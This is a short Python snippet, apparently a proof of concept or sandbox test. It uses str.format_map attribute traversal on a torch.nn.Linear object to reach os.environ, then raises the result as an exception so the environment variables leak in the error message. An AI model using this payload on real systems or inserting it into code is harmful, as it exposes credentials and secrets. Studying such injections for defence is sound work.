import torch
text = "{x.__class__.__init__.__globals__[sys].modules[os].environ}"
raise RuntimeError(text.format_map({"x": torch.nn.Linear(2, 2)}))
